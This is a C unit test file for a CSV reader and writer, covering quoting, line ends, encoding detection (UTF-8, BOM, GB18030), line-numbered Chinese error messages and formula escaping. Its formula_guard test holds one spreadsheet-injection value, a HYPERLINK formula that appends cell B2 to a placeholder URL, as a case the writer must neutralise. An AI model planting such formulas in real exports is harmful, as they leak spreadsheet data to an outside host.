/*
 * Unit tests of the CSV reader (io/csv-read.c, io/encoding.c): RFC 4180 cases, line ends, blank
 * lines, the three encodings, every error with its line, files and pipes, and a large generated
 * input. Most cases are read several times, in pieces of 1, 2, 3, 5 … bytes as well as whole, so
 * every construct is also met cut across a chunk boundary.
 */
#include <errno.h>
#include <iconv.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h> /* after the three it needs */

#include "io/csv.h"
#include "io/encoding.h"
#include "util/strbuf.h"
#include "util/xalloc.h"

static const size_t chunks[] = {0, 1, 2, 3, 5, 7, 64};
#define NCHUNKS (sizeof(chunks) / sizeof(chunks[0]))

/*
 * Reads data[0..len) whole, in pieces of "chunk" bytes (0: the reader's own size), and renders it
 * as "LINE:field|field\n" per record (CR and LF in fields shown as \r and \n), then "ERR:message"
 * if reading failed.
 */
static char *dump(const void *data, size_t len, size_t chunk)
{
	struct strbuf sb = STRBUF_INIT;
	struct csv_record rec;
	char *err = NULL;
	int rc;

	text_source_test_chunk = chunk;
	struct csv_reader *r = csv_open_mem(data, len, &err);
	assert_non_null(r);
	while ((rc = csv_next(r, &rec, &err)) == 1) {
		strbuf_addf(&sb, "%ld:", rec.line);
		for (size_t i = 0; i < rec.nfields; i++) {
			assert_int_equal(strlen(rec.fields[i]), rec.lens[i]);
			if (i)
				strbuf_addc(&sb, '|');
			for (const char *p = rec.fields[i]; *p; p++) {
				if (*p == '\n')
					strbuf_adds(&sb, "\\n");
				else if (*p == '\r')
					strbuf_adds(&sb, "\\r");
				else
					strbuf_addc(&sb, *p);
			}
		}
		strbuf_addc(&sb, '\n');
	}
	if (rc < 0) {
		assert_non_null(err);
		strbuf_addf(&sb, "ERR:%s", err);
		/* errors are sticky */
		char *again = NULL;
		assert_int_equal(csv_next(r, &rec, &again), -1);
		assert_string_equal(again, err);
		free(again);
	} else {
		assert_int_equal(csv_next(r, &rec, &err), 0); /* the end stays the end */
	}
	free(err);
	csv_close(r);
	text_source_test_chunk = 0;
	return strbuf_detach(&sb);
}

/* data read in every piece size renders as "want" */
static void check_n(const char *data, size_t len, const char *want)
{
	for (size_t i = 0; i < NCHUNKS; i++) {
		char *got = dump(data, len, chunks[i]);
		if (strcmp(got, want) != 0)
			fail_msg("chunk %zu:\n got: %s\nwant: %s", chunks[i], got, want);
		free(got);
	}
}

static void check(const char *data, const char *want)
{
	check_n(data, strlen(data), want);
}

/* data fails, in every piece size, with a message that starts with "want" */
static void check_err_n(const char *data, size_t len, const char *want)
{
	for (size_t i = 0; i < NCHUNKS; i++) {
		char *got = dump(data, len, chunks[i]);
		char *e = strstr(got, "ERR:");
		if (!e || strncmp(e + 4, want, strlen(want)) != 0)
			fail_msg("chunk %zu:\n got: %s\nwant error: %s", chunks[i], got, want);
		free(got);
	}
}

static void check_err(const char *data, const char *want)
{
	check_err_n(data, strlen(data), want);
}

static const char *encoding_of(const void *data, size_t len)
{
	static char enc[16];
	struct csv_reader *r = csv_open_mem(data, len, NULL);
	snprintf(enc, sizeof(enc), "%s", csv_encoding(r));
	csv_close(r);
	return enc;
}

static void plain_fields(void **state)
{
	check("a,b,c\n1,2,3\n", "1:a|b|c\n2:1|2|3\n");
	check("a,b\n1,2", "1:a|b\n2:1|2\n"); /* no final line end */
	check("only\n", "1:only\n");
	check(",\n,,\na,\n,a\n", "1:|\n2:||\n3:a|\n4:|a\n");
	check(" a , b ,\t\n", "1: a | b |\t\n"); /* spaces are data */
	check("单位名称,焦作市\n", "1:单位名称|焦作市\n");
	check("", "");
	/* rows need not be of one width: that is the importer's business */
	check("a\nb,c,d\n", "1:a\n2:b|c|d\n");
}

static void line_ends(void **state)
{
	check("a,b\r\n1,2\r\n", "1:a|b\n2:1|2\n");
	check("a\r\nb\nc\rd", "1:a\n2:b\n3:c\n4:d\n"); /* CRLF, LF and a lone CR each end a line */
	check("a,\r\n", "1:a|\n");
	check("a\r", "1:a\n");
}

static void quoted_fields(void **state)
{
	check("\"a,b\",c\n", "1:a,b|c\n");
	check("\"say \"\"hi\"\"\",x\n", "1:say \"hi\"|x\n");
	check("\"\"\"\"\n", "1:\"\n");
	check("\"\",\"\"\n", "1:|\n");
	check("\"\"\n", "1:\n"); /* a quoted empty field is a record, not a blank line */
	check("x,\"\"\n", "1:x|\n");
	check("\"a\",\"b\"", "1:a|b\n");
	check("\"a\"\r\n\"b\"\r", "1:a\n2:b\n");
	check("\" spaced \",\"中文，逗号\"\n", "1: spaced |中文，逗号\n");
}

static void embedded_line_ends(void **state)
{
	/* a record starts on the physical line of its first byte */
	check("\"l1\nl2\",x\r\nnext\n", "1:l1\\nl2|x\n3:next\n");
	check("\"a\r\nb\"\r\nc\r\n", "1:a\\r\\nb\n3:c\n");
	check("h\n\"1\n2\n3\",\"\r\"\nz\n", "1:h\n2:1\\n2\\n3|\\r\n6:z\n");
	check("\"\n\n\"\n", "1:\\n\\n\n");
}

static void blank_lines(void **state)
{
	/* lines 1 2 4 5 6 8 are blank (nothing, spaces, a tab) */
	check("\n\na\n\n  \n\t\nb\r\n\r\n", "3:a\n7:b\n");
	check("\r\n\r\n", "");
	check("   ", "");
	check("a\n\n", "1:a\n");
	check_err(" \" \" \n", "第1行: 第1列未加引号却含有引号"); /* not blank */
}

static void utf8_bom(void **state)
{
	check("\xEF\xBB\xBF"
	      "a,b\n",
	      "1:a|b\n");
	check("\xEF\xBB\xBF", "");
	check("\xEF\xBB\xBF\"q\"\n", "1:q\n");
	assert_string_equal(encoding_of("\xEF\xBB\xBFx", 4), "UTF-8 BOM");
	assert_string_equal(encoding_of("x", 1), "UTF-8");
	assert_string_equal(encoding_of("", 0), "UTF-8");
	/* a BOM is dropped only at the very start */
	check("a\n\xEF\xBB\xBF"
	      "b\n",
	      "1:a\n2:\xEF\xBB\xBF"
	      "b\n");
}

/* converts UTF-8 text to GB18030 with iconv */
static char *to_gb18030(const char *utf8, size_t *outlen)
{
	iconv_t cd = iconv_open("GB18030", "UTF-8");
	assert_true(cd != (iconv_t)-1);
	size_t inleft = strlen(utf8), cap = 2 * inleft + 8, outleft = cap;
	char *out = xmalloc(cap), *in = (char *)utf8, *o = out;
	assert_int_not_equal(iconv(cd, &in, &inleft, &o, &outleft), (size_t)-1);
	iconv_close(cd);
	*outlen = cap - outleft;
	return out;
}

static const char chinese_csv[] =
    "统一社会信用代码,单位名称,行政区划,备注\r\n"
    "91410821MA4400040K,修武县某某化工有限公司,410821,\"含逗号，和“引号”, 以及\"\"英文引号\"\"\"\r\n"
    "\r\n"
    "91410821MA44000AXK,焦作市𠀀€·有限公司,410821,\"两行\r\n备注\"\r\n"
    "914403001922038216,深圳,440300,ＡＢＣ全角\r\n";

static void gb18030(void **state)
{
	size_t n;
	char *gb = to_gb18030(chinese_csv, &n);
	assert_true(n != strlen(chinese_csv));
	assert_string_equal(encoding_of(gb, n), "GB18030");
	/* the GB18030 twin reads into the very same records, in every piece size */
	char *want = dump(chinese_csv, strlen(chinese_csv), 0);
	assert_non_null(strstr(want, "4:91410821MA44000AXK|焦作市𠀀€·有限公司|410821|两行\\r\\n备注\n"));
	check_n(gb, n, want);
	free(want);
	free(gb);

	/* literal bytes: 中文,焦作 in GB2312 */
	check("\xD6\xD0\xCE\xC4,\xBD\xB9\xD7\xF7\n", "1:中文|焦作\n");
	/* a GB18030 four-byte sequence (U+20000) */
	check("\x95\x32\x82\x36\n", "1:𠀀\n");
}

static void errors(void **state)
{
	check_err("a\n\"b\nc\n", "第2行: 引号未闭合");
	check_err("a,\"b", "第1行: 引号未闭合");
	check_err("\"", "第1行: 引号未闭合");
	check_err("x\ny\nab\"c\n", "第3行: 第1列未加引号却含有引号");
	check_err("x,y\na,ab\"c\n", "第2行: 第2列未加引号却含有引号");
	check_err("\"ab\"c\n", "第1行: 第1列的右引号后还有多余的字符");
	check_err("1\n2\n\"ab\" ,c\n", "第3行: 第1列的右引号后还有多余的字符");
	/* lines counted through quoted line ends */
	check_err("\"x\n\ny\",a\"b\n", "第3行: 第2列未加引号却含有引号");
	check_err("\"x\r\n\r\ny\"\r\n\"unclosed\r\n", "第4行: 引号未闭合");
	/* NUL bytes, quoted or not */
	check_err_n("a\nb\0c\n", 6, "第2行: 含有空字符");
	check_err_n("a\n\"b\n\0\"\n", 8, "第3行: 含有空字符");
	check_err_n("\0", 1, "第1行: 含有空字符");
	/* the records before an error are read */
	char *got = dump("a\nb\nc\"\n", 7, 0);
	assert_string_equal(got, "1:a\n2:b\nERR:第3行: 第1列未加引号却含有引号（含引号的字段应整体加引号，"
				 "并把其中的引号写成两个）");
	free(got);
}

static void undecodable(void **state)
{
	/* neither UTF-8 nor GB18030: 0xFF is never valid in either */
	check_err("a\nb\n\xD6\xD0\n\xFF\n", "第4行: 编码无法识别为 UTF-8 或 GB18030");
	check_err("\xFF", "第1行: 编码无法识别为 UTF-8 或 GB18030");
	/* the file ends inside a GB18030 character */
	check_err("\xD6\xD0\n\xD6", "第2行: 编码无法识别为 UTF-8 或 GB18030");
	/* inside a quoted field, after a lone CR */
	check_err("\"a\r\xD6\xD0\r\x80\"", "第3行: 编码无法识别为 UTF-8 或 GB18030");
	/*
	 * Neither: the UTF-8 text before the bad bytes is not GB18030 either (焦作市 is nine bytes,
	 * the ninth would pair with LF), so the error names the line of the bad bytes, and the
	 * records before them read as the UTF-8 they are.
	 */
	char *mixed = dump("单位,焦作市\n修武,1\n\x81\x30\xff\xff,x\n", 33, 0);
	assert_string_equal(mixed, "1:单位|焦作市\n2:修武|1\nERR:第3行: 编码无法识别为 UTF-8 或 GB18030");
	free(mixed);
	check_err("单位,焦作市\n修武,1\n\x81\x30\xff\xff,x\n", "第3行: 编码无法识别为 UTF-8 或 GB18030");
	/* the same bytes after GB18030 text: GB18030, failing on line 3 as well */
	check_err("\xB5\xA5\xCE\xBB,\xBD\xB9\xD7\xF7\xCA\xD0\n1,2\n\x81\x30\xff\xff,x\n",
		  "第3行: 编码无法识别为 UTF-8 或 GB18030");
	assert_string_equal(encoding_of("\xB5\xA5\xCE\xBB\n\xFF", 6), "GB18030");
	/* a UTF-16 file gets a hint */
	check_err_n("\xFF\xFE"
		    "a\0,\0b\0",
		    8, "第1行: 编码无法识别为 UTF-8 或 GB18030（文件似乎是 UTF-16 编码");
	/* a BOM promises UTF-8: invalid bytes after it are not read as GB18030 */
	check_err("\xEF\xBB\xBF"
		  "a\n\xD6\xD0\n",
		  "第2行: 含有无效的 UTF-8 字节");
	/* the records before the bad bytes are read */
	char *got = dump("\xEF\xBB\xBF"
			 "a,b\nc\n\xC3\x28",
			 11, 3);
	assert_string_equal(
	    got, "1:a|b\n2:c\nERR:第3行: 含有无效的 UTF-8 字节（文件以 UTF-8 BOM 开头，却不是有效的 UTF-8）");
	free(got);
	/* strict UTF-8: overlong forms and surrogates are not UTF-8, so the input goes to GB18030 */
	assert_string_equal(encoding_of("\xC0\xAF", 2), "GB18030");
	assert_string_equal(encoding_of("\xED\xA0\x80", 3), "GB18030");
	assert_string_equal(encoding_of("\xF4\x90\x80\x80", 4), "GB18030");
	assert_string_equal(encoding_of("\xE4\xB8", 2), "GB18030"); /* cut off */
	assert_string_equal(encoding_of("\xF0\x9F\x98\x80", 4), "UTF-8");
}

static void too_long(void **state)
{
	size_t n = 17u * 1024 * 1024;
	char *big = xmalloc(n + 1);
	memset(big, 'x', n);
	big[n] = '\0';
	char *got = dump(big, n, 0);
	assert_string_equal(got, "ERR:第1行: 记录过长（超过 16 MB）");
	free(got);
	big[0] = '"';
	got = dump(big, n, 0);
	assert_string_equal(got, "ERR:第1行: 记录过长（超过 16 MB）");
	free(got);
	free(big);
}

static void utf8_prefix_boundaries(void **state)
{
	int bad;
	assert_int_equal(utf8_prefix("abc", 3, &bad), 3);
	assert_int_equal(bad, 0);
	assert_int_equal(utf8_prefix("ab\xE4\xB8", 4, &bad), 2);
	assert_int_equal(bad, 0);
	assert_int_equal(utf8_prefix("ab\xE4\x28", 4, &bad), 2);
	assert_int_equal(bad, 1);
	assert_int_equal(utf8_prefix("0123456789\x80", 11, &bad), 10);
	assert_int_equal(bad, 1);
	/* a streaming check finds the same offset however the input is cut */
	const char *s = "中文abc\xF0\x9F\x98\x80xyz\xE4\xB8\xAD\xE4\x28";
	size_t len = strlen(s);
	for (size_t cut = 1; cut <= len; cut++) {
		struct utf8_scan sc = {0};
		for (size_t i = 0; i < len; i += cut)
			utf8_scan_feed(&sc, s + i, len - i < cut ? len - i : cut);
		utf8_scan_finish(&sc);
		assert_true(sc.bad);
		assert_int_equal(sc.bad_at, len - 2);
	}
}

/*
 * A reference for utf8_prefix(), written differently: decode each sequence to its code point and
 * judge the number; a sequence cut off by the end is fine when some continuation makes it valid.
 */
static size_t utf8_reference(const unsigned char *s, size_t n, int *bad)
{
	size_t i = 0;
	*bad = 0;
	while (i < n) {
		unsigned c = s[i], len;
		uint32_t cp, min;
		if (c < 0x80) {
			i++;
			continue;
		} else if ((c & 0xE0) == 0xC0) {
			len = 2, cp = c & 0x1F, min = 0x80;
		} else if ((c & 0xF0) == 0xE0) {
			len = 3, cp = c & 0x0F, min = 0x800;
		} else if ((c & 0xF8) == 0xF0) {
			len = 4, cp = c & 0x07, min = 0x10000;
		} else {
			*bad = 1;
			return i;
		}
		if (n - i < len) {
			unsigned char t[4];
			memcpy(t, s + i, n - i);
			for (unsigned second = 0x80; second <= 0xBF; second++) {
				for (size_t k = n - i; k < len; k++)
					t[k] = k == 1 ? (unsigned char)second : 0x80;
				int b;
				if (utf8_reference(t, len, &b) == len)
					return i;
			}
			*bad = 1;
			return i;
		}
		for (unsigned j = 1; j < len; j++) {
			if ((s[i + j] & 0xC0) != 0x80) {
				*bad = 1;
				return i;
			}
			cp = cp << 6 | (s[i + j] & 0x3F);
		}
		if (cp < min || (cp >= 0xD800 && cp <= 0xDFFF) || cp > 0x10FFFF) {
			*bad = 1;
			return i;
		}
		i += len;
	}
	return i;
}

static unsigned rand_state = 12345;

static unsigned next_rand(void)
{
	rand_state = rand_state * 1103515245u + 12345u;
	return (rand_state >> 16) & 0x7FFF;
}
#define RAND() next_rand()

/* random mixes of valid sequences, edge bytes and cuts: utf8_prefix() agrees with the reference */
static void utf8_against_reference(void **state)
{
	static const char *pieces[] = {"a",
				       "\n",
				       "中",
				       "é",
				       "𠀀",
				       "\xF4\x8F\xBF\xBF",
				       "\xEF\xBF\xBF",
				       "\xED\x9F\xBF",
				       "\xE0\xA0\x80",
				       "\xF0\x90\x80\x80",
				       "\xC2\x80",
				       "0123456789abcdef"};
	static const unsigned char edges[] = {0x80, 0xBF, 0xC0, 0xC1, 0xC2, 0xE0, 0xED, 0xF0,
					      0xF4, 0xF5, 0xFF, 0x9F, 0xA0, 0x8F, 0x90, 0xE4};
	unsigned char buf[256];
	for (int it = 0; it < 300000; it++) {
		size_t n = 0, want = RAND() % 160;
		while (n < want) {
			const char *p = pieces[RAND() % 12];
			size_t l = strlen(p);
			if (n + l > sizeof(buf))
				break;
			memcpy(buf + n, p, l);
			n += l;
		}
		for (unsigned k = RAND() % 3; k > 0 && n; k--) {
			size_t at = RAND() % n;
			buf[at] = edges[RAND() % sizeof(edges)];
		}
		if (RAND() % 4 == 0 && n)
			n -= RAND() % (n < 4 ? n : 4);
		int b1, b2;
		size_t r1 = utf8_prefix(buf, n, &b1), r2 = utf8_reference(buf, n, &b2);
		if (r1 != r2 || b1 != b2)
			fail_msg("iteration %d: %zu/%d, reference %zu/%d", it, r1, b1, r2, b2);
	}
}

/* CSV text written out to a file under a temporary directory */
static char *write_temp(const char *data, size_t len)
{
	char *path = xstrdup("/tmp/test-csv-XXXXXX");
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, data, len), (ssize_t)len);
	close(fd);
	return path;
}

static void files_and_pipes(void **state)
{
	char *err = NULL;
	struct csv_record rec;

	assert_null(csv_open("/nonexistent/x.csv", &err));
	assert_string_equal(err, "文件“/nonexistent/x.csv”不存在");
	free(err);
	err = NULL;
	assert_null(csv_open("/tmp", &err));
	assert_string_equal(err, "“/tmp”是目录，不是文件");
	free(err);
	err = NULL;

	size_t n;
	char *gb = to_gb18030(chinese_csv, &n);
	char *path = write_temp(gb, n);
	struct csv_reader *r = csv_open(path, &err);
	assert_non_null(r);
	assert_string_equal(csv_encoding(r), "GB18030");
	assert_int_equal(csv_next(r, &rec, &err), 1);
	assert_int_equal(rec.nfields, 4);
	assert_string_equal(rec.fields[1], "单位名称");
	csv_close(r);
	unlink(path);
	free(path);

	/* inputs must be regular files (io/infile.h): a pipe is refused at once, without waiting for it */
	int fds[2];
	assert_int_equal(pipe(fds), 0);
	pid_t pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		close(fds[0]);
		for (size_t off = 0; off < n;) {
			ssize_t w = write(fds[1], gb + off, n - off);
			if (w <= 0)
				_exit(1);
			off += (size_t)w;
		}
		_exit(0);
	}
	close(fds[1]);
	char dev[64];
	snprintf(dev, sizeof(dev), "/dev/fd/%d", fds[0]);
	r = csv_open(dev, &err);
	assert_null(r);
	assert_non_null(strstr(err, "是管道（FIFO），不是普通文件"));
	free(err);
	err = NULL;
	/* and so is a device that never ends */
	assert_null(csv_open("/dev/zero", &err));
	assert_non_null(strstr(err, "是设备，不是普通文件"));
	free(err);
	err = NULL;
	close(fds[0]);
	int status;
	waitpid(pid, &status, 0);
	free(gb);
}

static void sample_files(void **state)
{
	const char *dir = getenv("SUIJI_TEST_DATA");
	if (!dir)
		skip();
	static const char *names[] = {"sample-utf8.csv", "sample-utf8-bom.csv", "sample-gb18030.csv"};
	static const char *encs[] = {"UTF-8", "UTF-8 BOM", "GB18030"};
	char *first = NULL;
	for (int i = 0; i < 3; i++) {
		char *path = xasprintf("%s/csv/%s", dir, names[i]);
		char *err = NULL;
		struct csv_reader *r = csv_open(path, &err);
		if (!r)
			fail_msg("%s", err);
		assert_string_equal(csv_encoding(r), encs[i]);
		struct strbuf sb = STRBUF_INIT;
		struct csv_record rec;
		int rc;
		while ((rc = csv_next(r, &rec, &err)) == 1) {
			strbuf_addf(&sb, "%ld", rec.line);
			for (size_t f = 0; f < rec.nfields; f++)
				strbuf_addf(&sb, "|%s", rec.fields[f]);
			strbuf_addc(&sb, '\n');
		}
		assert_int_equal(rc, 0);
		csv_close(r);
		free(path);
		if (!first) {
			first = strbuf_detach(&sb);
			assert_non_null(strstr(first, "焦作"));
		} else {
			assert_string_equal(sb.buf, first);
			strbuf_release(&sb);
		}
	}
	free(first);
}

/* records written by csv_write_field read back the same */
static void writer_round_trip(void **state)
{
	static const char *rows[][3] = {
	    {"plain", "with,comma", "with \"quote\""},
	    {"two\nlines", "cr\rlf\r\n", ""},
	    {"", "", "中文"},
	    {" lead", "trail ", "\"\""},
	};
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	for (size_t i = 0; i < 4; i++) {
		for (size_t f = 0; f < 3; f++)
			csv_write_field(out, rows[i][f], f == 0);
		csv_end_record(out);
	}
	fclose(out);
	struct csv_reader *r = csv_open_mem(text, len, NULL);
	struct csv_record rec;
	for (size_t i = 0; i < 4; i++) {
		assert_int_equal(csv_next(r, &rec, NULL), 1);
		assert_int_equal(rec.nfields, 3);
		for (size_t f = 0; f < 3; f++)
			assert_string_equal(rec.fields[f], rows[i][f]);
	}
	assert_int_equal(csv_next(r, &rec, NULL), 0);
	csv_close(r);
	free(text);
}

/* formula cells (io/csv.h): written with one leading ', read back without it, whatever they hold */
static void formula_guard(void **state)
{
	static const struct {
		const char *value, *written;
	} cases[] = {
	    {"=HYPERLINK(\"http://x/?d=\"&B2,\"点击\")",
	     "\"'=HYPERLINK(\"\"http://x/?d=\"\"&B2,\"\"点击\"\")\""},
	    {"+1", "'+1"},
	    {"-1", "'-1"},
	    {"@SUM(A1)", "'@SUM(A1)"},
	    {"\tx", "'\tx"},
	    {"\rx", "\"'\rx\""},
	    {"'=x", "''=x"},
	    {"''@x", "'''@x"},
	    {"'x", "'x"},
	    {"a=b", "a=b"},
	    {"'", "'"},
	    {"", ""},
	    {"=", "'="},
	};
	size_t n = sizeof(cases) / sizeof(cases[0]);
	char *text = NULL;
	size_t len = 0;
	for (size_t i = 0; i < n; i++) {
		FILE *out = open_memstream(&text, &len);
		csv_write_field(out, cases[i].value, 1);
		fclose(out);
		assert_string_equal(text, cases[i].written);
		free(text);
	}
	FILE *out = open_memstream(&text, &len);
	for (size_t i = 0; i < n; i++) {
		csv_write_field(out, "key", 1);
		csv_write_field(out, cases[i].value, 0);
		csv_end_record(out);
	}
	fclose(out);
	struct csv_reader *r = csv_open_mem(text, len, NULL);
	struct csv_record rec;
	for (size_t i = 0; i < n; i++) {
		assert_int_equal(csv_next(r, &rec, NULL), 1);
		assert_int_equal(rec.nfields, 2);
		assert_string_equal(rec.fields[1], cases[i].value);
		assert_int_equal(rec.lens[1], strlen(cases[i].value));
	}
	assert_int_equal(csv_next(r, &rec, NULL), 0);
	csv_close(r);
	free(text);
}

/*
 * A large generated input: row i has five fields, of which some need quotes, span lines or hold
 * Chinese text; each is recomputed while reading to compare.
 */
static void gen_field(struct strbuf *sb, size_t row, int f)
{
	strbuf_reset(sb);
	switch ((row + (size_t)f) % 6) {
	case 0:
		strbuf_addf(sb, "%zu", row * 7919);
		break;
	case 1:
		strbuf_addf(sb, "焦作市第%zu号企业", row);
		break;
	case 2:
		strbuf_addf(sb, "a,b \"%zu\"", row);
		break;
	case 3:
		strbuf_addf(sb, "line1\r\nline2 %zu", row);
		break;
	case 4:
		break;
	default:
		for (size_t i = 0; i < row % 97; i++)
			strbuf_addc(sb, (char)('a' + i % 26));
	}
}

static int gen_lines(size_t row, int f)
{
	return (row + (size_t)f) % 6 == 3;
}

static void large_input(void **state)
{
	const size_t rows = 60000;
	struct strbuf text = STRBUF_INIT, field = STRBUF_INIT;
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	for (size_t i = 0; i < rows; i++) {
		for (int f = 0; f < 5; f++) {
			gen_field(&field, i, f);
			csv_write_field(out, strbuf_str(&field), f == 0);
		}
		csv_end_record(out);
		if (i % 1000 == 999)
			fputs("\r\n", out); /* a blank line now and then */
	}
	fclose(out);
	size_t gblen;
	char *gb = to_gb18030(buf, &gblen);

	static const size_t sizes[] = {0, 7, 4093};
	for (int enc = 0; enc < 2; enc++) {
		for (size_t s = 0; s < 3; s++) {
			text_source_test_chunk = sizes[s];
			struct csv_reader *r =
			    enc ? csv_open_mem(gb, gblen, NULL) : csv_open_mem(buf, len, NULL);
			assert_string_equal(csv_encoding(r), enc ? "GB18030" : "UTF-8");
			struct csv_record rec;
			long line = 1;
			for (size_t i = 0; i < rows; i++) {
				assert_int_equal(csv_next(r, &rec, NULL), 1);
				assert_int_equal(rec.nfields, 5);
				assert_int_equal(rec.line, line);
				for (int f = 0; f < 5; f++) {
					gen_field(&field, i, f);
					assert_int_equal(rec.lens[f], field.len);
					assert_memory_equal(rec.fields[f], strbuf_str(&field), field.len);
					line += gen_lines(i, f);
				}
				line += 1 + (i % 1000 == 999);
			}
			assert_int_equal(csv_next(r, &rec, NULL), 0);
			csv_close(r);
		}
	}
	text_source_test_chunk = 0;
	strbuf_release(&text);
	strbuf_release(&field);
	free(buf);
	free(gb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(plain_fields),
	    cmocka_unit_test(line_ends),
	    cmocka_unit_test(quoted_fields),
	    cmocka_unit_test(embedded_line_ends),
	    cmocka_unit_test(blank_lines),
	    cmocka_unit_test(utf8_bom),
	    cmocka_unit_test(gb18030),
	    cmocka_unit_test(errors),
	    cmocka_unit_test(undecodable),
	    cmocka_unit_test(too_long),
	    cmocka_unit_test(utf8_prefix_boundaries),
	    cmocka_unit_test(utf8_against_reference),
	    cmocka_unit_test(files_and_pipes),
	    cmocka_unit_test(sample_files),
	    cmocka_unit_test(writer_round_trip),
	    cmocka_unit_test(formula_guard),
	    cmocka_unit_test(large_input),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
